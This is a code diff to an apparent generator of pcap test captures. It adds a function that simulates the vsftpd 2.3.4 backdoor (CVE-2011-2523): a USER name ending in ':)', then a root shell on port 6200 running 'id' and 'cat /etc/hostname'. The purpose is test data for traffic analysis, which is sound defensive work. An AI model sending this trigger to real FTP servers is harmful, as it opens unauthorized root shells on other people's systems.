@@ -728,6 +728,31 @@ def not_sessions():
     wrpcap(out("hand-not-sessions.pcap"), sorted(pkts, key=lambda p: p.time))
 
 
+def vsftpd_backdoor():
+    """The vsftpd 2.3.4 backdoor (CVE-2011-2523) as a capture shows it: a
+    `USER` ending in `:)` to a server whose banner says vsFTPd 2.3.4, then
+    a connection to its port 6200, which no PORT or PASV announced, and a
+    shell on it (modelled on Shubh9414/Blue-Team-labs' attack.pcap)."""
+    cli, srv = "192.0.2.66", "192.0.2.101"
+    s = Session(cport=40060, cli=cli, srv=srv, cisn=60000, sisn=61000)
+    s.handshake()
+    s.send("s", b"220 (vsFTPd 2.3.4)\r\n")
+    s.send("c", b"USER 0p:)\r\n")
+    s.send("s", b"331 Please specify the password.\r\n")
+    s.send("c", b"PASS oC\r\n")
+    b = Session(cport=40061, sport=6200, cli=cli, srv=srv, cisn=63000, sisn=64000, t=s.t + 0.001)
+    b.handshake()
+    b.send("c", b"id\n")
+    b.send("s", b"uid=0(root) gid=0(root)\n")
+    b.t += 3
+    b.send("c", b"cat /etc/hostname\n")
+    b.send("s", b"metasploitable\n")
+    s.t = b.t + 5
+    s.close()
+    b.close()
+    wrpcap(out("hand-vsftpd-backdoor.pcap"), sorted(s.pkts + b.pkts, key=lambda p: p.time))
+
+
 def gzipped():
     """A gzip capture whose name says nothing about its format."""
     src = open(out("hand-founding-echo.pcap"), "rb").read()
@@ -742,6 +767,6 @@ if __name__ == "__main__":
               hostile_bytes, address_forms, lost_lines, two_mangled,
               long_lines, tsresol_binary, blind, multiline_gap,
               two_pasv, telnet_synch, isb_drops, onset_archive, quoted_replies,
-              not_sessions]:
+              not_sessions, vsftpd_backdoor]:
         f()
         print("wrote", f.__name__, file=sys.stderr)
